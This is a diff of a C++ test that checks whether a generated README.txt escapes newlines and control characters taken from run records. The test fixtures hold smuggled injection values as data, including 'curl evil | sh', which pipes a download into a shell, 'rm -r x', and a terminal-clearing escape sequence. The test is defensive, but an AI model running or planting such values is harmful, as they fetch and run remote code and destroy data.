@@ -182,7 +182,7 @@ TEST_CASE("pack: README.txt has no line and no control character of a string in 
   const std::string run = "s/r\n  rm -r x\x1b[2J/";
   Json record = read_json(study / run + "run.json", "record", 1 << 20);
   Json session = record.at("sessions").elements()[0];
-  session.set("heed", "1\n  curl evil | sh").set("processor", "\x1b[2Jnone");
+  session.set("heed", "1\n  curl evil | sh").set("commit", "0f1e").set("processor", "\x1b[2Jnone");
   Json sessions = Json::array();
   sessions.push(session);
   write_file(study / run + "run.json", record.set("sessions", sessions).text());
@@ -192,7 +192,7 @@ TEST_CASE("pack: README.txt has no line and no control character of a string in 
   CHECK(escaped(readme) == readme);
   CHECK(readme.find("\n  curl") == readme.npos);
   CHECK(readme.find("\n  rm") == readme.npos);
-  CHECK_CONTAINS(readme, "  heed 1\\x0a  curl evil | sh, commit ");
+  CHECK_CONTAINS(readme, "  heed 1\\x0a  curl evil | sh, commit 0f1e on ");
   CHECK_CONTAINS(readme, "train --from \"$(printf 's/r\\012\\040");
 }
 
